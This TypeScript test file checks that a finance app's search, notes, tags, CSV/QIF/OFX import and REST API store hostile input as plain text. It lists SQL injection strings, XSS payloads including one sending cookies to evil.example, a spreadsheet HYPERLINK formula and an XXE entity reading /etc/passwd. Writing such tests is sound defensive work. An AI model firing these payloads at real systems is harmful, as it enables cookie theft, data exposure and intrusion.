/**
 * Hostile text through every way a user's words get in — search, notes, tags, merchant names
 * from a bank file, rule conditions, the REST API — is stored verbatim, matched literally and
 * never executed: queries are parameterized, React escapes text, and no component renders user
 * data as HTML.
 */
import { readFileSync, readdirSync } from "node:fs";
import path from "node:path";
import { beforeAll, describe, expect, it } from "vitest";
import { GET as restGet } from "~/app/api/v1/[...path]/route";
import { createCaller } from "~/server/api/root";
import { seedCategories } from "~/server/categorize/seed-categories";
import { db } from "~/server/db";
import { commitImport } from "~/server/import/commit-import";
import { renderApiDocs } from "~/server/rest/render-api-docs";
import { callerContext, createTestAccount, createTestTransaction, createTestUser } from "../factories";

const SQL_INJECTIONS = [
  "'; DROP TABLE transactions; --",
  "%' OR '1'='1",
  "' UNION SELECT id, email, password_hash FROM users --",
  "\\'; SELECT pg_sleep(5); --",
  "_%_%",
  "$1 $2 ${userId}",
];
const XSS = [
  "<script>alert(document.cookie)</script>",
  '<img src=x onerror="fetch(`//evil.example/`+document.cookie)">',
  "javascript:alert(1)",
  '"><svg onload=alert(1)>',
];

let me: { id: string; email: string };
let other: { id: string; email: string };
let txId: string;
const asMe = () => createCaller(callerContext(db, me));

beforeAll(async () => {
  await seedCategories(db);
  me = await createTestUser(db);
  other = await createTestUser(db);
  const account = await createTestAccount(db, me.id);
  txId = (
    await createTestTransaction(
      db,
      { userId: me.id, accountId: account.id },
      { amount: "-3.00", date: "2026-03-02", description: "COFFEE SHOP" },
    )
  ).id;
  const theirs = await createTestAccount(db, other.id);
  await createTestTransaction(
    db,
    { userId: other.id, accountId: theirs.id },
    { amount: "-9.99", date: "2026-03-02", description: "SECRET PURCHASE" },
  );
});

describe("SQL injection through search and filters", () => {
  it.each(SQL_INJECTIONS)("%s finds nothing it should not and breaks nothing", async (payload) => {
    const before = await db.transaction.count();
    const search = await asMe().transaction.search({ query: payload });
    const list = await asMe().transaction.list({ search: payload });
    const preview = await asMe().rules.preview({
      name: "probe",
      enabled: true,
      conditions: { match: "all", conditions: [{ field: "description", operator: "contains", value: payload }] },
      actions: { setCategory: "TRANSPORTATION" },
    });
    for (const rows of [search, list.items, preview.examples]) {
      expect(JSON.stringify(rows)).not.toContain("SECRET PURCHASE");
    }
    // Whatever matched is the caller's own.
    for (const row of [...search, ...list.items]) expect(row.id).toBe(txId);
    expect(await db.transaction.count()).toBe(before);
    expect(await db.user.count({ where: { id: other.id } })).toBe(1);
  });

  it("treats LIKE wildcards in the search and the list's filter as plain characters", async () => {
    expect(await asMe().transaction.search({ query: "%%" })).toEqual([]);
    expect(await asMe().transaction.search({ query: "__" })).toEqual([]);
    expect((await asMe().transaction.list({ search: "%" })).items).toEqual([]);
    expect((await asMe().transaction.list({ search: "_" })).items).toEqual([]);
    expect((await asMe().transaction.list({ search: "coffee" })).items.map((t) => t.id)).toEqual([txId]);
    expect((await asMe().transaction.search({ query: "coffee" })).map((t) => t.id)).toEqual([txId]);
  });

  it("does the same through the REST API", async () => {
    const { token } = await asMe().security.apiTokens.create({ name: "probe", scope: "READ" });
    for (const payload of SQL_INJECTIONS) {
      const response = await restGet(
        new Request(`http://localhost:3000/api/v1/transactions?search=${encodeURIComponent(payload)}`, {
          headers: { authorization: `Bearer ${token}` },
        }),
      );
      expect(response.status).toBe(200);
      expect(await response.text()).not.toContain("SECRET PURCHASE");
    }
  });
});

describe("script in notes, tags and merchant names", () => {
  it.each(XSS)("%s is stored and returned exactly as typed", async (payload) => {
    await asMe().transaction.setNotes({ id: txId, notes: payload, tags: [] });
    const stored = await db.transaction.findUniqueOrThrow({ where: { id: txId } });
    expect(stored.notes).toBe(payload);
    await expect(asMe().transaction.byId({ id: txId })).resolves.toMatchObject({ notes: payload });
  });

  it("refuses angle brackets in tags, which are shown as chips and used in filters", async () => {
    await expect(asMe().transaction.setNotes({ id: txId, notes: null, tags: ["<script>"] })).rejects.toMatchObject({
      code: "BAD_REQUEST",
    });
  });

  it("keeps hostile merchant names from a bank file verbatim, as text", async () => {
    const account = await createTestAccount(db, me.id, { name: "Imported" });
    const lines = [
      "Date,Description,Amount",
      `2026-03-03,"${XSS[0]}",-1.00`,
      `2026-03-04,"=HYPERLINK(""http://evil.example"",""click"")",-2.00`,
      `2026-03-05,"${SQL_INJECTIONS[0]}",-3.00`,
    ];
    const result = await commitImport(
      db,
      { userId: me.id, accountId: account.id },
      Buffer.from(lines.join("\n") + "\n"),
      {
        fileName: "hostile.csv",
      },
    );
    expect(result.added).toBe(3);
    const descriptions = (
      await db.transaction.findMany({ where: { accountId: account.id }, select: { description: true } })
    )
      .map((t) => t.description)
      .sort();
    expect(descriptions).toEqual([XSS[0], '=HYPERLINK("http://evil.example","click")', SQL_INJECTIONS[0]].sort());
  });
});

describe("hostile QIF and OFX files", () => {
  const importInto = async (name: string, fileName: string, text: string) => {
    const account = await createTestAccount(db, me.id, { name });
    const result = await commitImport(db, { userId: me.id, accountId: account.id }, Buffer.from(text), { fileName });
    const rows = await db.transaction.findMany({
      where: { accountId: account.id },
      select: { description: true, merchantName: true },
    });
    return { result, text: JSON.stringify(rows) };
  };
  const ofx = (prolog: string, name: string) =>
    `${prolog}<OFX><BANKMSGSRSV1><STMTTRNRS><STMTRS><CURDEF>USD<BANKACCTFROM><ACCTID>1<ACCTTYPE>CHECKING</BANKACCTFROM>` +
    `<BANKTRANLIST><STMTTRN><TRNTYPE>DEBIT<DTPOSTED>20260306<TRNAMT>-4.00<FITID>hostile-1<NAME>${name}</STMTTRN>` +
    `</BANKTRANLIST></STMTRS></STMTTRNRS></BANKMSGSRSV1></OFX>\n`;

  it("keeps script in a QIF payee as text", async () => {
    const { result, text } = await importInto("QIF", "hostile.qif", `!Type:Bank\nD03/06/2026\nT-4.00\nP${XSS[1]}\n^\n`);
    expect(result.added).toBe(1);
    expect(text).toContain(JSON.stringify(XSS[1]).slice(1, -1));
  });

  it("decodes an OFX name's character entities into text, and refuses a file with a DTD", async () => {
    const sgml = await importInto(
      "OFX",
      "hostile.ofx",
      ofx("OFXHEADER:100\nDATA:OFXSGML\nVERSION:102\n\n", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    );
    expect(sgml.result.added).toBe(1);
    expect(sgml.text).toContain("<script>alert(1)</script>");

    // The reader knows no DTD: a file that declares one is refused, so no entity is ever resolved.
    await expect(
      importInto(
        "OFX with DOCTYPE",
        "xxe.ofx",
        ofx(
          '<?xml version="1.0"?>\n<?OFX OFXHEADER="200" VERSION="211"?>\n<!DOCTYPE OFX [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n',
          "&xxe;",
        ),
      ),
    ).rejects.toThrow(/is not an OFX header line/);
    expect(await db.transaction.count({ where: { userId: me.id, description: { contains: "root:" } } })).toBe(0);
  });
});

describe("rendering", () => {
  const SRC = path.resolve(import.meta.dirname, "../../../src");
  const sources = (readdirSync(SRC, { recursive: true }) as string[])
    .filter((f) => /\.(tsx?|jsx?)$/.test(f) && !f.includes("db/generated"))
    .map((f) => ({ file: f, text: readFileSync(path.join(SRC, f), "utf8") }));

  it("puts no user data into HTML: the one raw-HTML element is the constant theme script", () => {
    const raw = sources.filter((s) =>
      /dangerouslySetInnerHTML|\.innerHTML\s*=|insertAdjacentHTML|document\.write\(/.test(s.text),
    );
    expect(raw.map((s) => s.file)).toEqual(["components/theme-script.tsx"]);
    const themeScript = raw[0]!.text;
    expect(themeScript).toMatch(/dangerouslySetInnerHTML=\{\{ __html: script \}\}/);
    expect(themeScript).toMatch(/^const script = `/m);
  });

  it("escapes everything on the API docs page", () => {
    const html = renderApiDocs();
    expect(html).not.toMatch(/<script/i);
    expect(html).toContain("&quot;");
  });
});
